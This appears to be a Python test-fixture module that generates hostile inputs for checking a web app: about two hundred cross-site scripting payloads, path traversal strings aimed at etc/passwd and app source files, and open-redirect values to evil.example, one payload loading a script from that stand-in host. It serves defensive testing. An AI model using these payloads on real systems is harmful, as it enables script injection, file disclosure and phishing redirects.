"""What strangers write into addresses and texts: markup in two hundred forms, paths that climb, ways to other sites."""

from itertools import product

MARK = "window.__x=1"
_CODE = (MARK, f"{MARK}//", f"eval('{MARK}')", "alert(1)")
_SHELLS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example></script>{}", "<svg onload={}>",
    "<svg/onload={}>", "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<img src=x onerror={} //",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", '<a href="javascript:{}">x</a>', "javascript:{}",
    "data:text/html,<script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>",
    "<!--<script>{}</script>-->", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<math><mi//xlink:href=javascript:{}>", "<input autofocus onfocus={}>", "<marquee onstart={}>",
    "<style>@import 'javascript:{}'</style>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>", "<base href=javascript:{}>", "<link rel=import href=data:,{}>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "<%= {} %>", "[x](javascript:{})", "![x](x){{onerror={}}}", "\u202e<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "<scr\u0000ipt>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "<img src=`x` onerror={}>",
    "<svg><animate onbegin={} attributeName=x>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<x onclick={}>",
    "<b style=background:url(javascript:{})>",
)  # fmt: skip
PAYLOADS = tuple(shell.format(code) for shell, code in product(_SHELLS, _CODE))

_UP = (
    "../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%252f", "..%c0%af",
    "..%ef%bc%8f", "....//", "..;/", "%2e%2e%5c", ".%2e/", "..%00/",
)  # fmt: skip
_PLACES = (
    "/assets/", "/_dash-component-suites/dash/", "/export/region/", "/data/ladda-ner/2026-11/",
    "/data/enheter/filer/",
)  # fmt: skip
_WANTED = ("etc/passwd", "app.py", "pyproject.toml", "refdata/SOURCES.toml")
TRAVERSALS = tuple(f"{place}{up * 6}{file}" for place, up, file in product(_PLACES, _UP, _WANTED))

_ELSEWHERE = (
    "//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "https://evil.example",
    "/%2f%2fevil.example", "/%5cevil.example", "///evil.example", "/\tevil.example",
    "/%0d%0aLocation:%20//evil.example", "https://localhost@evil.example", "/.evil.example", "javascript:alert(1)",
    "data:text/html,x", "//evil.example/%2e%2e", "/evil.example//", "////evil.example//", "/%2e%2e//evil.example",
    "http:\\\\evil.example", "//%65vil.example",
)  # fmt: skip
REDIRECTS = tuple(
    f"{begin}{place}" for begin, place in product(("/?next=", "/region/14?return=", "/data/enheter?url="), _ELSEWHERE)
)  # fmt: skip
